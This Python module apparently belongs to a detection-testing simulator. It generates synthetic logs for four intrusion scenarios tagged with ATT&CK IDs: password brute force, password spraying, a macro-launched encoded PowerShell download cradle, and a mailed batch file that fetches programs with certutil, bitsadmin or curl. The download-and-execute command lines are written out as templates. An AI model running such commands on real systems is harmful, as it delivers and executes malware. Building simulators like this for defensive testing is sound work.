"""Attacks that come in from outside: guessed passwords and scripts in documents."""

from __future__ import annotations

from collections.abc import Iterator

from tocsin.simulate.actions import LogonType
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario, encoded
from tocsin.simulate.software import CMD, OFFICE, POWERSHELL


def _brute_force(cast: Cast) -> Iterator[Act]:
    """Try passwords of one account from outside until one fits, then look around."""
    attempts = int(min(600, 20 * cast.rng.paretovariate(1.3)))
    type_ = cast.rng.choice((LogonType.REMOTE, LogonType.NETWORK))
    account = cast.admin if cast.rng.random() < 0.3 else cast.victim
    for _ in range(attempts):
        attempt = cast.log_on(account, cast.server, cast.intruder, type_, success=False)
        yield Act("guess-passwords", "T1110.001", attempt)
    entry = cast.log_on(account, cast.server, cast.intruder, type_)
    yield Act("log-on-with-guessed-password", "T1078", entry)
    whoami = cast.run("whoami.exe /all", _tool("whoami.exe"), account=account, machine=cast.server)
    yield Act("look-around", "T1033", whoami)


def _spray(cast: Cast) -> Iterator[Act]:
    """Try one password on every account from outside."""
    accounts = list(cast.organisation.accounts)
    cast.rng.shuffle(accounts)
    for account in accounts:
        attempt = cast.log_on(account, cast.controller, cast.intruder, LogonType.NETWORK, success=False)
        yield Act("spray-one-password", "T1110.003", attempt)
    entry = cast.log_on(cast.victim, cast.controller, cast.intruder, LogonType.NETWORK)
    yield Act("log-on-with-sprayed-password", "T1078.002", entry)


def _encoded_powershell(cast: Cast) -> Iterator[Act]:
    """Open a document whose macro starts an encoded script, which fetches and runs another."""
    office = f"{OFFICE}\\{cast.one_of('WINWORD.EXE', 'EXCEL.EXE')}"
    fetch = cast.one_of(
        f"IEX (New-Object Net.WebClient).DownloadString('{cast.url('ps1')}')",
        f"$c=New-Object System.Net.WebClient;$c.DownloadFile('{cast.url('exe')}','{cast.dropped('exe')}')",
        f"iwr -UseBasicParsing {cast.url('txt')} | iex",
    )
    flags = cast.one_of(
        "-nop -w hidden", "-NoP -sta -NonI -W Hidden", "-NoProfile -WindowStyle Hidden", "-ep bypass"
    )
    line = f"powershell.exe {flags} {cast.cased('-EncodedCommand')} {encoded(fetch)}"
    yield Act("run-encoded-script", "T1059.001", cast.run(line, POWERSHELL, office))
    payload = cast.dropped("ps1")
    script = f"(New-Object Net.WebClient).DownloadFile('{cast.url('ps1')}','{payload}')"
    fetched = f'powershell.exe -ep bypass -c "{script}"'
    yield Act("fetch-tool", "T1105", cast.run(fetched, POWERSHELL, POWERSHELL))
    hidden = f"powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File {payload}"
    yield Act("run-tool", "T1059.001", cast.run(hidden, POWERSHELL, POWERSHELL))


def _shell_dropper(cast: Cast) -> Iterator[Act]:
    """Fetch a program with a tool of the system itself, from a batch file out of a mail."""
    target = cast.dropped("exe")
    batch = cast.dropped("cmd")
    yield Act(
        "run-batch-file",
        "T1059.003",
        cast.run(f"cmd.exe /c {batch}", CMD, f"{OFFICE}\\OUTLOOK.EXE"),
    )
    fetch = cast.one_of(
        f"certutil.exe -urlcache -split -f {cast.url('exe')} {target}",
        f"bitsadmin.exe /transfer {cast.word()} /priority foreground {cast.url('exe')} {target}",
        f"curl.exe -s -o {target} {cast.url('bin')}",
    )
    yield Act("fetch-tool", "T1105", cast.run(fetch, _tool(fetch.split()[0])))
    decode = f"certutil.exe {cast.cased('-decode')} {cast.dropped('txt')} {target}"
    yield Act("decode-tool", "T1140", cast.run(decode, _tool("certutil.exe")))
    yield Act("run-tool", "T1204.002", cast.run(target, target))


def _tool(name: str) -> str:
    return f"C:\\Windows\\System32\\{name}"


SCENARIOS = (
    Scenario("brute-force", "Guess an account's password from outside, then log on", _brute_force, haste=5),
    Scenario("password-spray", "Try one password on all accounts from outside", _spray, haste=5),
    Scenario("encoded-powershell", "A document's macro runs an encoded download script", _encoded_powershell),
    Scenario(
        "shell-dropper", "A mailed batch file fetches a program with the system's own tools", _shell_dropper
    ),
)
